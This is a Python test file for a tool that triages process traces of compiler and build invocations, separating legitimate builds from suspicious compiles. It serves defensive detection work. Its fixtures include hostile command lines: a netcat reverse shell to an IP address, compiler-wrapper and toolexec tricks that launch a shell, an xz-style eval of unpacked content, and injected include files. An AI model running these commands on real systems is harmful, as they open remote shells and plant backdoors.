"""Mechanisms that a set of real traces and imitations, written without sight of the rules, has shown to be missing."""

from __future__ import annotations

import shlex

import pytest

from responder.compiler import parse
from responder.record import Triage
from responder.triage import Case, judge

INIT = "python3 /venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel"
PIP = "/venv/bin/pip install skb"


def judged(*lines: tuple[str, str | None, tuple[str, ...]]) -> Triage:
    execs = [
        {"argv": shlex.split(line), "cwd": cwd, "parents": [shlex.split(parent) for parent in parents]}
        for line, cwd, parents in lines
    ]
    return judge(Case.of_execs(execs))


def signs(found: Triage) -> set[str]:
    return {signal.id for signal in found.signals}


# --- builds whose tool is out of sight --------------------------------------------------------------------------------

CMAKE = "cmake -S. -B/tmp/tmp5/build -DCMAKE_BUILD_TYPE=Release"
UNDER_CMAKE = "cc -O3 -DNDEBUG -fPIC -o CMakeFiles/fast.dir/fast.c.o -c /app/skb/fast.c"


def test_a_compiler_whose_short_chain_ends_at_cmake_belongs_to_the_pip_that_started_that_cmake() -> None:
    found = judged(
        (CMAKE, "/app/skb", (INIT, PIP)),
        (UNDER_CMAKE, "/tmp/tmp5/build", ("sh -c x", "ninja -v", CMAKE)),
    )
    assert found.verdict == "benign"


def test_without_that_pip_the_same_compiler_in_a_temporary_folder_is_not_benign() -> None:
    found = judged((UNDER_CMAKE, "/tmp/tmp5/build", ("sh -c x", "ninja -v", CMAKE)))
    assert found.verdict != "benign"


def test_what_a_plain_make_starts_is_not_vouched_for_by_the_make() -> None:
    found = judged(("make", "/app", ()), ("gcc -O2 -Wall c.c -o c", "/app", ("make",)))
    assert found.verdict != "benign"


NUMBA = "python nb.py"


def test_an_object_that_a_compiler_inside_a_program_makes_to_try_the_compiler_out_is_part_of_its_build() -> None:
    found = judged(
        ("gcc -O3 -Wall -fPIC -c /tmp/pycc-build-m/a.c -o /tmp/pycc-build-m/a.o", "/app", (NUMBA,)),
        ("gcc -O3 -Wall -fPIC -c /tmp/tmpa7/temp.c -o /tmp/tmpa7/temp.o", "/app", (NUMBA,)),
    )
    assert found.verdict == "benign"


def test_a_program_that_the_same_process_links_elsewhere_is_not() -> None:
    found = judged(
        ("gcc -O3 -Wall -fPIC -c /tmp/pycc-build-m/a.c -o /tmp/pycc-build-m/a.o", "/app", (NUMBA,)),
        ("gcc -O3 /tmp/r.c -o /tmp/r", "/app", (NUMBA,)),
    )
    assert found.verdict != "benign"


def test_configures_guess_at_the_machine_is_part_of_configure() -> None:
    chain = ("/bin/bash ./config.guess", "/bin/bash ./configure --prefix=/usr", "sh -c x")
    found = judged(("cc -c -o /tmp/cgjxa985/dummy.o /tmp/cgjxa985/dummy.c", "/app/auto", chain))
    assert found.verdict == "benign"


def test_the_go_commands_questions_to_the_c_compiler_are_part_of_its_build() -> None:
    found = judged(
        ("go build -o /usr/local/bin/svc .", "/app/svc", ()),
        ("gcc -Qunused-arguments -c -x c - -o /dev/null", "/tmp/go-build14", ("go build -o /usr/local/bin/svc .",)),
    )
    assert found.verdict == "benign"


def test_a_ci_runners_bare_shell_is_nobody_at_a_keyboard() -> None:
    line = ("gcc -O2 -Wall -Iinclude -c -o build/h.o src/h.c", "/builds/group/svc")
    runner = judged((*line, ("make -j2", "bash", "/usr/bin/dumb-init /entrypoint gitlab-runner")))
    person = judged((*line, ("make -j2", "bash")))
    assert runner.verdict == "benign"
    assert "P3" not in signs(runner)
    assert "P3" in signs(person)


# --- words that look alike --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("collect2 -plugin /usr/lib/gcc/12/liblto_plugin.so -plugin-opt=/usr/lib/gcc/12/lto-wrapper --version", "A7"),
        ("cmake -S . -B /tmp/b", "A7"),
        ("cc -m64 a.rcgu.o -o svc -B/root/.rustup/toolchains/stable/lib/rustlib/x86_64/bin/gcc-ld -lc", "A7"),
        ("arm-none-eabi-gcc --specs=nano.specs -Os -o fw.elf main.o", "A7"),
        ("gcc -O2 -shared -o a.so a.o -z noexecstack", "A13"),
        ("cc -m64 a.rcgu.o -o svc -Wl,-z,noexecstack -nodefaultlibs", "A13"),
        ("cc -m64 a.rcgu.o b.rcgu.o -o svc -lc -nodefaultlibs", "A4"),
        ("/usr/bin/ar --plugin /usr/lib/gcc/12/liblto_plugin.so -h", "A12"),
        ("ar cr libx.a x.o", "A9"),
        ("make SHELL=/nix/store/x1-bash-5.2/bin/bash all", "A7"),
        ("zig ld.lld --error-limit=0 -o hello /root/.cache/zig/o/1/hello.o", "A2"),
    ],
)
def test_a_toolchains_own_words_are_no_signs(line: str, sign: str) -> None:
    assert sign not in signs(judged((line, "/app", ())))


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("gcc -wrapper /bin/sh,-s .", "A7"),
        ("gcc -B/tmp/evil/ -c a.c", "A7"),
        ("gcc -specs=/tmp/x.specs a.c", "A7"),
        ("go build -toolexec '/bin/sh -c sh'", "A7"),
        ("rustc -C linker=/tmp/x.sh /dev/null", "A7"),
        ("env CC='sh -c id' make", "A7"),
        ("gcc -o p p.c -z execstack", "A13"),
        ("ninja -f /tmp/build.ninja -C /tmp", "A0"),
    ],
)
def test_and_the_misuse_that_they_resemble_is_still_seen(line: str, sign: str) -> None:
    assert sign in signs(judged((line, "/app", ())))


def test_the_archivers_plugin_is_no_product() -> None:
    found = parse(["gcc-ar", "--plugin", "/usr/lib/gcc/12/liblto_plugin.so", "rc", "libx.a", "x.o"])
    assert (found.outputs, found.objects) == (("libx.a",), ("x.o",))
    assert parse(["ar", "--plugin", "/usr/lib/gcc/12/liblto_plugin.so", "-h"]).mode == "probe"


# --- imitations that were believed ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "cwd", "parents"),
    [
        ("gcc -O2 -o /tmp/k /tmp/k.c", "/tmp", ("pip install x", "nc -e /bin/sh 203.0.113.4 4444")),
        ("gcc -O2 -o /tmp/k /tmp/k.c", "/tmp", ("pip install x",)),
        ("gcc -O2 -fPIC -c -o crc.o crc.c -include /tmp/.h", "/build/xz-5.6.1/src", ("make", "dpkg-buildpackage -b")),
        (
            "cc -shared -fPIC -o /usr/lib/libx.so c/x.c",
            "/usr/local/cargo/registry/src/index/evil-0.1.0",
            ("/app/target/debug/build/evil-1/build-script-build", "cargo build"),
        ),
        ("gcc -o /usr/bin/x x.c", "/tmp/pip-install-1/x_0a1b", (INIT, PIP)),
        ("gcc -o /root/.local/bin/x x.c", "/tmp/pip-install-1/x_0a1b", (INIT, PIP)),
        ("gcc /tmp/i.o -o /tmp/i", "/tmp/pip-install-1/x_0a1b", (INIT, PIP)),
        ("gcc i.c -o i", "/app/node_modules/x", ("sh -c 'gcc i.c -o i && ./i'", "node install.js", "npm install")),
        ("cc -c -o /dev/shm/dummy.o /dev/shm/dummy.c", "/app", ("sh ./config.guess", "sh ./configure")),
        ("gcc -o k k.c", "/app", ("clangd",)),
        ("gcc -O2 -o k k.c", "/tmp/x", ("pre-commit run",)),
    ],
)
def test_a_named_tool_excuses_no_product_outside_its_build(line: str, cwd: str, parents: tuple[str, ...]) -> None:
    assert judged((line, cwd, parents)).verdict != "benign"


def test_netcat_that_starts_a_shell_is_a_terminal() -> None:
    assert "P3" in signs(judged(("gcc k.c -o k", "/tmp", ("nc -e /bin/sh 203.0.113.4 4444",))))


def test_a_shell_that_runs_what_it_unpacks_is_seen() -> None:
    found = judged(("gcc -c a.c", "/build/xz", ("sh -c 'eval `xz -dc bad.xz | tr a b`; gcc -c a.c'",)))
    assert "P5" in signs(found)


def test_a_compiler_that_a_build_tool_drives_is_not_said_to_be_called_by_hand() -> None:
    found = judged(("cc -O2 -Wall -c -o src/f.o src/f.c", "/root/t", ("make",)))
    said = next(signal.title for signal in found.signals if signal.id == "A0")
    assert said == "make drives cc in /root/t, and nothing says that this build belongs there"


# --- what a reader is told --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "parents", "said"),
    [
        ("gcc -o /tmp/t /tmp/t.c", (), "gcc makes /tmp/t straight from /tmp/t.c, in no known build"),
        (
            "gcc -o /tmp/t /tmp/t.c",
            ("sh -c x",),
            "a shell had gcc make /tmp/t straight from /tmp/t.c, in no known build",
        ),
        ("g++ -c src/ledger.cpp", (), "g++ compiles src/ledger.cpp, in no known build"),
        ("ld -o /tmp/u /tmp/u.o", (), "ld makes /tmp/u straight from /tmp/u.o, in no known build"),
        ("tcc -run /tmp/b.c", (), "tcc runs /tmp/b.c, in no known build"),
    ],
)
def test_the_reason_names_what_was_made_from_what_and_only_a_shell_that_was_seen(
    line: str, parents: tuple[str, ...], said: str
) -> None:
    assert next(signal.title for signal in judged((line, None, parents)).signals if signal.id == "A0") == said


def test_a_linker_is_not_blamed_for_lacking_a_compilers_flags() -> None:
    assert "A9" not in signs(judged(("ld -o /tmp/u /tmp/u.o", "/app", ())))


def test_a_folder_that_no_known_tool_makes_is_hidden_whatever_its_length() -> None:
    assert "A10" in signs(judged(("tcc -o /tmp/.r/a /tmp/.r/a.c", None, ())))


def test_a_folder_of_the_build_that_says_nothing_is_not_taken_for_its_name() -> None:
    found = judged(("c++ -O2 -o a.o -c a.cpp", "/app/ledger/build", ("ninja", "cmake --build .")))
    assert found.builds == ("CMake building ledger",)


def test_a_command_line_of_many_files_is_read_at_both_ends_and_said_to_be_so() -> None:
    files = [f"/opt/y/{n}.c" for n in range(5000)]
    found = judge(Case.of_execs([{"argv": ["gcc", "-o", "/opt/y/x", *files, "/tmp/.x/last.c"], "cwd": "/"}]))
    assert {"A10", "U0"} <= signs(found)
